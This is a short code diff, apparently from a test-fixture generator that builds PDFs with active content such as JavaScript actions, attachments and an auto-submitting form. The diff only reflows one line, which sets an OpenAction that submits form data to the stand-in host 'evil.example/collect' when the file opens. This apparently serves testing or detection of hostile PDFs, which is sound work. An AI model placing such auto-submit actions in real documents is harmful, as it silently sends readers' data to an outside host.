@@ -80,7 +80,10 @@ export async function activePdf(activity: PdfActivity, objectStreams: boolean): 
       page.node.set(PDFName.of('AA'), context.obj({ O: jsAction(context, true) }));
       break;
     case 'open-submitform':
-      catalog.set(PDFName.of('OpenAction'), context.register(context.obj({ Type: 'Action', S: 'SubmitForm', F: context.obj({ FS: 'URL', F: PDFString.of('https://evil.example/collect') }) })));
+      catalog.set(
+        PDFName.of('OpenAction'),
+        context.register(context.obj({ Type: 'Action', S: 'SubmitForm', F: context.obj({ FS: 'URL', F: PDFString.of('https://evil.example/collect') }) })),
+      );
       break;
     case 'attachment':
       await doc.attach(new TextEncoder().encode('notes for the printer'), 'notes.txt', { mimeType: 'text/plain' });
